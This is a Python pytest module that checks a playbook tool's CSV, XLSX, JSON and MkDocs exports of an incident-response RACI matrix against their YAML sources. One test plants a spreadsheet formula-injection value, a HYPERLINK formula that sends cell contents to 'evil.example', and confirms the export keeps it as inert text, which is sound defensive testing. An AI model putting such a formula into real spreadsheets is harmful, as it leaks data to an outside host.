"""Exports: CSV, XLSX and JSON agree with the YAML cell by cell; the Markdown export builds with plain MkDocs."""

from __future__ import annotations

import csv
import json
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook

from generator.exports.formats import PlaybookExport

from .sitekit import ROLE_IDS, copy_project, load_yaml, rolebook, soup


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return copy_project(tmp_path_factory.mktemp("exports") / "project")


def export(project: Path, fmt: str, out: Path) -> Path:
    result = rolebook("export", "--format", fmt, "-o", str(out), cwd=project)
    assert result.returncode == 0, result.stderr
    return out


def shown(letter: str) -> str:
    return "A/R" if letter == "AR" else letter


def expected_rows(project: Path) -> list[tuple[str, str, dict[str, str]]]:
    """(activity name, phase name, {role id: letter as shown}) in phase order, straight from the YAML
    (a role both Accountable and Responsible, AR, is shown A/R)."""
    phases = load_yaml(project / "site_config" / "playbook.yaml")["phases"]
    activities = load_yaml(project / "roles" / "activities.yaml")["activities"]
    return [
        (a["name"], phase["name"], {rid: shown(letter) for rid, letter in a["raci"].items()})
        for phase in phases
        for a in activities
        if a["phase"] == phase["id"]
    ]


def role_names(project: Path) -> list[str]:
    return [load_yaml(project / "roles" / f"{rid}.yaml")["name"] for rid in ROLE_IDS]


def test_csv_matches_the_yaml_cell_by_cell(project: Path, tmp_path: Path) -> None:
    with export(project, "csv", tmp_path / "raci.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["activity", "phase", *role_names(project)]
    expected = expected_rows(project)
    assert len(rows) - 1 == len(expected) >= 20
    for row, (name, phase, raci) in zip(rows[1:], expected, strict=True):
        assert row == [name, phase, *(raci.get(rid, "") for rid in ROLE_IDS)]


def test_xlsx_matches_the_yaml_and_reads_well(project: Path, tmp_path: Path) -> None:
    book = load_workbook(export(project, "xlsx", tmp_path / "raci.xlsx"))
    sheet = book["RACI"]
    assert [c.value for c in sheet[1]] == ["Activity", *role_names(project)]
    assert sheet.freeze_panes == "B2"
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    expected = expected_rows(project)
    phase_rows = [r[0] for r in rows if all(v is None for v in r[1:])]
    assert phase_rows == list(dict.fromkeys(phase.upper() for _, phase, _ in expected))
    activity_rows = [r for r in rows if any(v is not None for v in r[1:])]
    assert len(activity_rows) == len(expected)
    for row, (name, _, raci) in zip(activity_rows, expected, strict=True):
        assert list(row) == [name, *(raci.get(rid) for rid in ROLE_IDS)]
    fills = {}
    for row in sheet.iter_rows(min_row=2):
        for cell in row[1:]:
            if cell.value:
                fills.setdefault(cell.value, set()).add(cell.fill.fgColor.rgb)
    assert {letter: len(colours) for letter, colours in fills.items()} == {
        "R": 1,
        "A": 1,
        "A/R": 1,
        "C": 1,
        "I": 1,
    }
    # one colour per letter; a role both Accountable and Responsible has the Accountable one
    assert len({next(iter(c)) for c in fills.values()}) == 4 and fills["A/R"] == fills["A"]
    outlined = [sheet.row_dimensions[i].outline_level for i in range(2, sheet.max_row + 1)]
    assert outlined.count(1) == len(expected)  # activities fold under their phase
    legend = [tuple(r) for r in book["Legend"].iter_rows(min_row=2, max_row=6, values_only=True)]
    assert [(r[0], r[1]) for r in legend] == [
        ("R", "Responsible"),
        ("A", "Accountable"),
        ("A/R", "Accountable and Responsible"),
        ("C", "Consulted"),
        ("I", "Informed"),
    ]


def test_xlsx_is_the_same_bytes_every_time(project: Path, tmp_path: Path) -> None:
    one = export(project, "xlsx", tmp_path / "one.xlsx").read_bytes()
    time.sleep(1.1)  # openpyxl stamps the second it saves; rolebook must not let that through
    two = export(project, "xlsx", tmp_path / "two.xlsx").read_bytes()
    assert one == two


def test_json_holds_the_whole_playbook(project: Path, tmp_path: Path) -> None:
    data = json.loads(export(project, "json", tmp_path / "playbook.json").read_text("utf-8"))
    PlaybookExport.model_validate(data)  # what `rolebook schema playbook-export` describes
    settings = load_yaml(project / "site_config" / "playbook.yaml")
    assert (data["title"], data["version"], data["published"]) == (settings["title"], "1.0", "2024-04-15")
    assert [p["id"] for p in data["phases"]] == [p["id"] for p in settings["phases"]]
    assert [s["id"] for s in data["severities"]] == [s["id"] for s in settings["severities"]]
    assert [r["id"] for r in data["roles"]] == list(ROLE_IDS)
    for role in data["roles"]:
        source = load_yaml(project / "roles" / f"{role['id']}.yaml")
        assert role["name"] == source["name"]
        assert role["responsibilities"] == source["responsibilities"]
        assert role["backups"] == source["backups"]
    activities = load_yaml(project / "roles" / "activities.yaml")["activities"]
    assert {a["id"]: a["raci"] for a in data["activities"]} == {
        a["id"]: {rid: shown(letter) for rid, letter in a["raci"].items()} for a in activities
    }
    schema = rolebook("schema", "playbook-export", cwd=project)
    assert set(json.loads(schema.stdout)["properties"]) >= {"roles", "activities", "phases", "severities"}


def test_markdown_export_builds_with_plain_mkdocs(project: Path, tmp_path: Path) -> None:
    out = export(project, "markdown", tmp_path / "md")
    config = yaml.safe_load((out / "mkdocs.yml").read_text("utf-8"))
    assert config["plugins"] == ["search"]  # no rolebook
    result = subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "--strict"],
        cwd=out,
        capture_output=True,
        text=True,
        timeout=300,
        env={"PATH": "/usr/bin:/bin", "NO_MKDOCS_2_WARNING": "1"},
    )
    assert result.returncode == 0, result.stderr
    site = out / "site"
    for role_id in ROLE_IDS:
        assert (site / "roles" / role_id / "index.html").is_file()
        assert (site / "cards" / f"{role_id}.pdf").is_file()
    raci = soup(site / "raci" / "index.html")
    assert len(raci.select("tr[data-activity]")) == len(expected_rows(project))
    # the matrix's stylesheet is linked by the page itself, as in the site rolebook builds
    (sheet,) = raci.select(".rb-sheets link[rel=stylesheet]")
    assert (site / "raci" / sheet["href"]).resolve() == (site / "assets" / "rolebook-raci.css").resolve()
    assert ".rb-raci" in (site / "assets" / "rolebook-raci.css").read_text("utf-8")
    assert (site / "downloads" / "raci.csv").is_file()
    assert (site / "editing-the-playbook" / "file-format" / "index.html").is_file()


@pytest.mark.parametrize("fmt", ["markdown", "zensical"])
def test_a_site_project_is_never_exported_into_the_sources(project: Path, fmt: str) -> None:
    """The next build would publish it (docs/), or the next export copy it again."""
    for inside in ("docs/exported", "roles/exported", "site_config/exported", "templates/x/exported", "."):
        result = rolebook("export", "--format", fmt, "-o", inside, cwd=project)
        assert result.returncode == 1, (inside, result.stderr)
        assert "inside the playbook's sources; write the export somewhere else" in result.stderr
        assert "Traceback" not in result.stderr
        if inside != ".":
            assert not (project / inside).exists()


def test_markdown_export_refuses_a_folder_with_files(project: Path, tmp_path: Path) -> None:
    target = tmp_path / "busy"
    target.mkdir()
    (target / "keep.md").write_text("mine", "utf-8")
    result = rolebook("export", "--format", "markdown", "-o", str(target), cwd=project)
    assert result.returncode == 1 and "not an empty folder" in result.stderr
    assert [p.name for p in target.iterdir()] == ["keep.md"]


def test_the_raci_page_offers_the_downloads(
    project: Path, tmp_path: Path, default_site: tuple[Path, Path]
) -> None:
    _, site = default_site  # the same default playbook as `project`, built once per session
    page = soup(site / "raci" / "index.html")
    links = {a.get_text(): a["href"] for a in page.find("article").find_all("a", href=True)}
    assert links["CSV"] == "../downloads/raci.csv"
    assert links["spreadsheet (XLSX)"] == "../downloads/raci.xlsx"
    assert links["JSON"] == "../downloads/playbook.json"
    assert (site / "downloads" / "raci.csv").read_text("utf-8") == export(
        project, "csv", tmp_path / "same.csv"
    ).read_text("utf-8")
    assert load_workbook(site / "downloads" / "raci.xlsx")["RACI"]["A1"].value == "Activity"
    assert json.loads((site / "downloads" / "playbook.json").read_text("utf-8"))["roles"]


def test_a_renamed_role_is_renamed_in_the_exports(tmp_path: Path) -> None:
    project = tmp_path / "playbook"
    assert rolebook("init", str(project), cwd=tmp_path).returncode == 0
    (project / "roles" / "incident-manager.yaml").write_text(
        "extends: default\nname: Incident Commander\n", "utf-8"
    )
    header = export(project, "csv", tmp_path / "r.csv").read_text("utf-8").splitlines()[0]
    assert "Incident Commander" in header and "Incident Manager" not in header
    data = json.loads(export(project, "json", tmp_path / "p.json").read_text("utf-8"))
    assert "Incident Manager" not in json.dumps(data)


def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    project = tmp_path / "playbook"
    assert rolebook("init", str(project), cwd=tmp_path).returncode == 0
    (project / "roles" / "activities.yaml").write_text(
        "extends: default\nadd:\n"
        "  - id: sneaky\n"
        '    name: \'=HYPERLINK("http://evil.example/?"&A1,"Click")\'\n'
        "    phase: respond\n"
        "    raci: {management-leadership: A, communication-lead: R}\n",
        "utf-8",
    )
    book = load_workbook(export(project, "xlsx", tmp_path / "r.xlsx"))
    cells = [
        c
        for row in book["RACI"].iter_rows()
        for c in row
        if isinstance(c.value, str) and "HYPERLINK" in c.value
    ]
    assert len(cells) == 1 and cells[0].data_type == "s"
    rows = export(project, "csv", tmp_path / "r.csv").read_text("utf-8").splitlines()
    assert any(row.startswith("\"'=HYPERLINK(") for row in rows)
    assert not any(row.startswith("=") for row in rows)


def test_exports_never_write_over_the_sources(project: Path, tmp_path: Path) -> None:
    before = (project / "site_config" / "playbook.yaml").read_bytes()
    for fmt, target in (("csv", "site_config/playbook.yaml"), ("json", "mkdocs.yml"), ("csv", "roles/x.csv")):
        result = rolebook("export", "--format", fmt, "-o", target, cwd=project)
        assert result.returncode == 1 and "inside the playbook's sources" in result.stderr
    result = rolebook("cards", "-o", "roles/activities.yaml", cwd=project)
    assert result.returncode == 1
    assert (project / "site_config" / "playbook.yaml").read_bytes() == before
    stdout = rolebook("export", "--format", "csv", "-o", "-", cwd=project)
    assert stdout.returncode == 0 and stdout.stdout.startswith("activity,phase,")


@pytest.mark.parametrize("published", ["0001-01-01", "1979-12-31", "2108-01-01", "9999-12-31"])
def test_a_publication_date_outside_zip_dates_still_exports(tmp_path: Path, published: str) -> None:
    """ZIP dates run from 1980 to 2107; the spreadsheet of a playbook dated outside them is still written."""
    project = copy_project(tmp_path / "p")
    settings = project / "site_config" / "playbook.yaml"
    settings.write_text(
        re.sub(r"(?m)^published: .*$", f"published: {published}", settings.read_text("utf-8"))
    )
    result = rolebook("export", "--format", "xlsx", "-o", str(tmp_path / "raci.xlsx"), cwd=project)
    assert result.returncode == 0, result.stderr
    assert load_workbook(tmp_path / "raci.xlsx").sheetnames
